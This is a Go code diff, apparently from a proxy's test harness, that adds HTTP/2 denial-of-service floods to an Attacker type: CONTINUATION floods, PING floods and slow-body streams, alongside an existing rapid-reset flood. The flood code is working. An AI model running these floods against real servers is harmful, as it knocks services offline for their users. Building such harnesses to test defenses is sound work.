@@ -35,6 +35,7 @@ const Preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 // HTTP/2 frame types and flags (RFC 9113 section 6), and the error code
 // of a cancelled stream.
 const (
+	FrameData         = 0x0
 	FrameHeaders      = 0x1
 	FrameRSTStream    = 0x3
 	FrameSettings     = 0x4
@@ -76,27 +77,54 @@ func GetFields(path string) []string {
 	return []string{":method", "GET", ":scheme", "http", ":path", path, ":authority", "proxy"}
 }
 
+// Flood is what an Attacker's connections send.
+type Flood int
+
+const (
+	// RapidReset opens streams and resets them at once (CVE-2023-44487).
+	RapidReset Flood = iota
+	// Continuation opens a stream with a HEADERS frame that does not end
+	// its header block, then sends empty CONTINUATION frames on it
+	// (CVE-2024-27316's kind): frames that add nothing.
+	Continuation
+	// Ping sends PING frames and never opens a stream: each one asks the
+	// server for an acknowledgement.
+	Ping
+	// SlowBody opens streams whose body (40,000 bytes announced) never
+	// comes but a byte at a time: every Pause (50 ms if unset) it sends
+	// one byte of DATA on each of its last 8 streams. With Hold set it
+	// opens 8 streams at once and 8 new ones every Hold (the server cuts
+	// the bodies meanwhile): 8 bodies under way a connection. Without, it
+	// opens one more stream every Pause, as many as the server lets it.
+	SlowBody
+)
+
 // Attacker opens HTTP/2 connections to Addr from the addresses From and,
-// on each, opens streams and resets them at once, reconnecting whenever
-// the proxy closes a connection. It stops when the context given to Run
-// is done.
+// on each, sends its Flood (by default: opens streams and resets them at
+// once), reconnecting whenever the proxy closes a connection. It stops
+// when the context given to Run is done.
 type Attacker struct {
-	Addr string
-	From []string // the addresses its connections come from, in turn
+	Addr  string
+	From  []string // the addresses its connections come from, in turn
+	Flood Flood
 	// EndStream sends each HEADERS with END_STREAM (a request without a
 	// body); otherwise the stream stays open for a body that never comes,
 	// then is reset.
 	EndStream bool
 	// Pause, if set, is waited between streams (a slow reset).
 	Pause time.Duration
+	// Hold, for SlowBody, is how long each batch of 8 bodies is sent
+	// before the next opens.
+	Hold time.Duration
 	// Pad is how many requests it completes (a GET the upstream answers)
 	// for each stream it resets: the variant that pads its resets with
 	// served requests so that they are not most of its streams.
 	Pad int
 
-	// Streams counts the streams it reset, Conns the connections it
-	// opened.
-	Streams, Conns atomic.Int64
+	// Streams counts the streams it reset (Continuation, SlowBody: that
+	// it opened), Frames the PING and CONTINUATION frames it wrote, Conns
+	// the connections it opened.
+	Streams, Frames, Conns atomic.Int64
 }
 
 // Run starts n connections at once (each reconnecting until ctx is done);
@@ -131,6 +159,43 @@ func (a *Attacker) conn(ctx context.Context, from string) {
 	w := bufio.NewWriterSize(c, 64<<10)
 	w.WriteString(Preface)
 	WriteFrame(w, FrameSettings, 0, 0, nil)
+	// flush writes what is buffered, and reports false once the
+	// connection is closed (or ctx done).
+	flush := func() bool {
+		c.SetWriteDeadline(time.Now().Add(5 * time.Second))
+		if w.Flush() != nil {
+			return false
+		}
+		select {
+		case <-done:
+			return false
+		default:
+			return true
+		}
+	}
+	switch a.Flood {
+	case Continuation, Ping:
+		if a.Flood == Continuation {
+			WriteFrame(w, FrameHeaders, FlagEndStream, 1, HPACKLiteral(GetFields("/orders/ORD-CONT/charges")...))
+			a.Streams.Add(1)
+		}
+		var ping [8]byte
+		for i := 1; ; i++ {
+			if a.Flood == Continuation {
+				WriteFrame(w, FrameContinuation, 0, 1, nil)
+			} else {
+				binary.BigEndian.PutUint64(ping[:], uint64(i))
+				WriteFrame(w, FramePing, 0, 0, ping[:])
+			}
+			a.Frames.Add(1)
+			if i%64 == 0 && !flush() {
+				return
+			}
+		}
+	case SlowBody:
+		a.slowBodies(w, flush)
+		return
+	}
 	hdr := HPACKLiteral(":method", "POST", ":scheme", "http", ":path", "/charges",
 		":authority", "proxy", "content-type", "application/json", "content-length", "40")
 	flags := byte(FlagEndHeaders)
@@ -166,6 +231,47 @@ func (a *Attacker) conn(ctx context.Context, from string) {
 			return
 		default:
 		}
+	}
+}
+
+// slowBodies runs the SlowBody flood on a connection whose preface is
+// in w, until flush reports it closed.
+func (a *Attacker) slowBodies(w *bufio.Writer, flush func() bool) {
+	const inFlight = 8
+	pause := a.Pause
+	if pause <= 0 {
+		pause = 50 * time.Millisecond
+	}
+	hdr := HPACKLiteral(":method", "POST", ":scheme", "http", ":path", "/charges",
+		":authority", "proxy", "content-type", "application/json", "content-length", "40000")
+	var last uint32       // the last stream opened (client streams are odd)
+	var batchAt time.Time // when the last batch opened (Hold)
+	open := func() {
+		if last == 0 {
+			last = 1
+		} else {
+			last += 2
+		}
+		WriteFrame(w, FrameHeaders, FlagEndHeaders, last, hdr)
+		a.Streams.Add(1)
+	}
+	for last < 1<<30 {
+		switch {
+		case a.Hold <= 0:
+			open()
+		case batchAt.IsZero() || time.Since(batchAt) >= a.Hold:
+			for range inFlight {
+				open()
+			}
+			batchAt = time.Now()
+		}
+		for k := uint32(0); k < inFlight && 2*k < last; k++ {
+			WriteFrame(w, FrameData, 0, last-2*k, []byte{'{'})
+		}
+		if !flush() {
+			return
+		}
+		time.Sleep(pause)
 	}
 }
 
